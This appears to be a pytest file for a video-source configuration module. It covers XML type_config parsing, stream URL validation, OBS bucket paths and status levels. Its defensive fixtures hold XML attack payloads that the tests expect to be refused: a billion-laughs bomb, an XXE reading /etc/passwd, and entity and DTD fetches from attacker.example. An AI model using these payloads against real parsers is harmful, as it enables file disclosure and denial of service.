"""Video-source rules: ``type_config`` parsing, ``stream_path`` and status levels."""

from __future__ import annotations

import pytest
from defusedxml.common import DefusedXmlException

from openvias.domain.video_sources import (
    PULLABLE_TYPES,
    SOURCE_TYPES,
    SourceStatus,
    TypeConfig,
    TypeConfigError,
    check_stream_url,
    parse_type_config,
    stream_path_for,
)

# -- parsing ------------------------------------------------------------------------------


def test_url_layout_of_the_examples() -> None:
    xml = (
        "<type_config>        <url_address>rtsp://12.12.12.12:333</url_address>      </type_config>"
    )
    assert parse_type_config(xml).values == {"url_address": "rtsp://12.12.12.12:333"}


def test_documented_layout_without_a_single_root() -> None:
    xml = "<type>URL</type>\n<config>\n<URL_ADDRESS>rtsp://a/b</URL_ADDRESS>\n</config>"
    assert parse_type_config(xml).values == {"type": "URL", "url_address": "rtsp://a/b"}


def test_documented_vcn_layout() -> None:
    xml = (
        "<type>VCN</type><config><DATA_SOURCE_ID>7</DATA_SOURCE_ID><STREAM_TYPE>1</STREAM_TYPE>"
        "<IP>10.0.0.1</IP><PORT>9000</PORT><USER_NAME>u</USER_NAME><PASSWORD>p</PASSWORD>"
        "</config>"
    )
    assert parse_type_config(xml).values == {
        "type": "VCN",
        "data_source_id": "7",
        "stream_type": "1",
        "ip": "10.0.0.1",
        "port": "9000",
        "user_name": "u",
        "password": "p",
    }


def test_text_is_stripped_and_first_occurrence_wins() -> None:
    xml = "<a><URL>  http://one/  </URL><url>http://two/</url><empty>  </empty></a>"
    assert parse_type_config(xml).values == {"url": "http://one/"}


def test_xml_declaration_comments_and_entities() -> None:
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- a camera -->'
        "<type_config><url_address>http://h/v?a=1&amp;b=2&#38;c=&#x33;</url_address>"
        "</type_config>"
    )
    assert parse_type_config(xml).first("url_address") == "http://h/v?a=1&b=2&c=3"


@pytest.mark.parametrize("xml", ["", "   ", "\n"])
def test_empty_config_has_no_values(xml: str) -> None:
    assert parse_type_config(xml).values == {}


@pytest.mark.parametrize(
    "xml",
    [
        "<type_config><url_address>rtsp://a/b</type_config>",
        "<type_config><url_address>rtsp://a/b</url_address>",
        "<type>URL</type><config>",
        "<a>&undefined;</a>",
        "<a>1 < 2</a>",
        "<a b=c/>",
        "rtsp://12.12.12.12:333",
        "text<a>x</a>",
        "<a>x</a>trailing text",
        "<a>x</a> between <b>y</b>",
        '<?xml version="1.0"?><a>x</a><b>y</b>',
    ],
)
def test_malformed_xml_is_refused(xml: str) -> None:
    with pytest.raises(TypeConfigError):
        parse_type_config(xml)


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    ' <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    "]>\n<type_config><url_address>&lol3;</url_address></type_config>"
)
ENTITY_ATTACKS = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": (
        '<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<type_config><url_address>&xxe;</url_address></type_config>"
    ),
    "parameter-entity": (
        '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><t/>'
    ),
    "external-dtd": '<!DOCTYPE t SYSTEM "http://attacker.example/t.dtd"><t>x</t>',
    "internal-entity": '<!DOCTYPE t [<!ENTITY a "rtsp://x/y">]><t><url_address>&a;</url_address></t>',
    "doctype-only": "<!DOCTYPE t><t>x</t>",
}


@pytest.mark.parametrize("xml", ENTITY_ATTACKS.values(), ids=ENTITY_ATTACKS)
def test_dtds_and_entities_are_refused_by_defusedxml(xml: str) -> None:
    with pytest.raises(TypeConfigError, match="DTD") as raised:
        parse_type_config(xml)
    assert isinstance(raised.value.__cause__, DefusedXmlException)


def test_doctype_inside_the_fragment_layout_is_refused() -> None:
    xml = '<!DOCTYPE t [<!ENTITY a "b">]><type>URL</type><config>&a;</config>'
    with pytest.raises(TypeConfigError):
        parse_type_config(xml)


def test_first_skips_missing_and_empty() -> None:
    config = TypeConfig({"url": "", "address": "rtsp://x/1"})
    assert config.first("url_address", "url", "address") == "rtsp://x/1"
    assert config.first("nothing") == ""


# -- stream_path --------------------------------------------------------------------------


def _url(address: str) -> TypeConfig:
    return parse_type_config(f"<type_config><url_address>{address}</url_address></type_config>")


@pytest.mark.parametrize(
    "address",
    [
        "rtsp://12.12.12.12:333",
        "rtsp://user:pass@cam.local:554/Streaming/Channels/101",
        "rtsps://cam.local/s",
        "RTSP://CAM.LOCAL/s",
        "http://h.example/clip.mp4",
        "https://h.example/live/index.m3u8?token=abc",
        "rtmp://live.example/app/key",
        "rtsp://[::1]:8554/s",
        "file:///data/videos/clip.mp4",
        "http://h.example/视频.mp4",
    ],
)
@pytest.mark.parametrize("source_type", ["url", "RTSP_STREAM"])
def test_stream_urls(source_type: str, address: str) -> None:
    assert stream_path_for(source_type, _url(address)) == address


@pytest.mark.parametrize(
    "address",
    [
        "not a url",
        "12.12.12.12:333",
        "rtsp:12.12.12.12",
        "rtsp://",
        "http:///path-only",
        "ftp://h.example/a.mp4",
        "javascript:alert(1)",
        "http://[::1/a",
        "rtsp://h:99999/a",
        "rtsp://h:port/a",
        "rtsp://h/a b",
        "rtsp://h/a\tb",
        "rtsp://h/a\x7fb",
        "file://",
    ],
)
def test_bad_stream_urls(address: str) -> None:
    with pytest.raises(TypeConfigError, match="url_address"):
        check_stream_url(address)


@pytest.mark.parametrize("source_type", ["url", "RTSP_STREAM"])
def test_url_source_needs_an_address(source_type: str) -> None:
    for xml in ("", "<type_config><ip>1.2.3.4</ip></type_config>", "<url_address> </url_address>"):
        with pytest.raises(TypeConfigError, match="url_address"):
            stream_path_for(source_type, parse_type_config(xml))


def test_url_tag_aliases() -> None:
    assert stream_path_for("url", parse_type_config("<url>rtsp://a/1</url>")) == "rtsp://a/1"
    config = parse_type_config("<stream_url>rtsp://a/2</stream_url><address>rtsp://a/3</address>")
    assert stream_path_for("url", config) == "rtsp://a/2"


def _obs(bucket: str, path: str) -> TypeConfig:
    return parse_type_config(
        f"<type_config><bucket>{bucket}</bucket><path>{path}</path></type_config>"
    )


@pytest.mark.parametrize(
    ("bucket", "path", "expected"),
    [
        ("my-bucket", "dir/clip.mp4", "obs://my-bucket/dir/clip.mp4"),
        ("abc", "/leading/slash.mp4", "obs://abc/leading/slash.mp4"),
        ("cams.2024", "a b/c.mp4", "obs://cams.2024/a b/c.mp4"),
        ("a" * 63, "x", f"obs://{'a' * 63}/x"),
    ],
)
def test_obs_stream_path(bucket: str, path: str, expected: str) -> None:
    assert stream_path_for("obs", _obs(bucket, path)) == expected


def test_obs_alternative_tags() -> None:
    config = parse_type_config("<bucket_name>bkt</bucket_name><object>o.mp4</object>")
    assert stream_path_for("obs", config) == "obs://bkt/o.mp4"


@pytest.mark.parametrize(
    "xml",
    [
        "<type_config><bucket>bkt</bucket></type_config>",
        "<type_config><path>a.mp4</path></type_config>",
        "<type_config><bucket>bkt</bucket><path>/</path></type_config>",
        "<type_config><bucket>bkt</bucket><path>///</path></type_config>",
    ],
)
def test_obs_needs_bucket_and_object(xml: str) -> None:
    with pytest.raises(TypeConfigError, match="bucket"):
        stream_path_for("obs", parse_type_config(xml))


@pytest.mark.parametrize(
    "bucket", ["ab", "a" * 64, "My-Bucket", "my_bucket", "-bkt", "bkt-", "a..b", "a.-b", "b/k"]
)
def test_obs_bucket_names(bucket: str) -> None:
    with pytest.raises(TypeConfigError, match="bucket"):
        stream_path_for("obs", _obs(bucket, "x.mp4"))


@pytest.mark.parametrize("source_type", sorted(set(SOURCE_TYPES) - PULLABLE_TYPES))
def test_stored_only_types_never_fail(source_type: str) -> None:
    assert stream_path_for(source_type, parse_type_config("")) == ""
    assert stream_path_for(source_type, _url("not even a url")) == "not even a url"
    restful = (
        "<type>RESTFUL</type><config><URL>https://api/x</URL><RTSP_URL>$.u</RTSP_URL></config>"
    )
    assert stream_path_for(source_type, parse_type_config(restful)) == "https://api/x"


# -- status -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "level", "name", "wire"),
    [
        (SourceStatus.ONLINE, "1", "在线", "Online"),
        (SourceStatus.OFFLINE, "2", "离线", "Offline"),
        (SourceStatus.ABNORMAL, "9", "异常", "Abnormal"),
    ],
)
def test_status_levels(status: SourceStatus, level: str, name: str, wire: str) -> None:
    assert (status.level, status.display_name, status.wire_status) == (level, name, wire)
    assert SourceStatus.from_level(level) is status
    assert SourceStatus(status.value) is status


@pytest.mark.parametrize("level", ["0", "3", "", "online", "01"])
def test_unknown_levels(level: str) -> None:
    with pytest.raises(KeyError):
        SourceStatus.from_level(level)
